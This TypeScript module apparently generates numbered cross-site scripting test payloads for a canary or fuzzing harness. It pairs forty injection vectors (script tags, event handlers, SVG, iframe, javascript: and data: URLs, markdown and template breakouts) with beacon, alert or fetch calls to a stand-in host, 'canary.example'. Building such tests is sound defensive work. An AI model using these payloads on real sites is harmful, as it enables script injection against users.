/** A host that nobody has; a request to it would show. */
export const canaryHost = "canary.example";

/** What a payload would do: tell the page, ask the canary, or stop it with a dialog. */
const run = [
  (at: number) => `beacon(${at})`,
  (at: number) => `fetch('//${canaryHost}/${at}')`,
  (at: number) => `alert(${at})`,
];

/** Ways out of words into a page: markup, attributes, scripts, addresses, templates, JSON. */
const ways: ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt >${js}</sCrIpT >`,
  (js) => `<script src=//${canaryHost}/x.js>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<!--</script><script>${js}</script>-->`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img src=//${canaryHost}/x onload="${js}">`,
  (js) => `![x](//${canaryHost}/x.png "${js}")`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  (js) => `<math><mtext><img src=x onerror=${js}></mtext></math>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<base href="//${canaryHost}/">${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<link rel=stylesheet href=//${canaryHost}/x.css>${js}`,
  (js) => `<style>@import '//${canaryHost}/x.css';</style>${js}`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `" onmouseover="${js}" x="`,
  (js) => `' autofocus onfocus='${js}`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</article></main><script>${js}</script>`,
  (js) => `[x](javascript:${js})`,
  (js) => `[x](java\tscript:${js})`,
  (js) => `[x](data:text/html,<script>${js}</script>)`,
  (js) => `<javascript:${js}>`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `\${${js}}`,
  (js) => `"};${js};var x={"`,
  (js) => `\u2028${js}//`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
];

/** Payloads by number; each says its number when it runs. 120 different ones, then they come again. */
export function payload(at: number): string {
  const way = ways[at % ways.length];
  const does = run[Math.floor(at / ways.length) % run.length];
  return way?.(does?.(at) ?? "") ?? "";
}

/** As short as a name or a label has to be. */
export const shortOnes = [
  "<img src=x onerror=beacon(1)>",
  `"><svg onload=beacon(2)>`,
  "<script>beacon(3)</script>",
  "[x](javascript:beacon(4))",
  "{{constructor.constructor('beacon(5)')()}}",
];
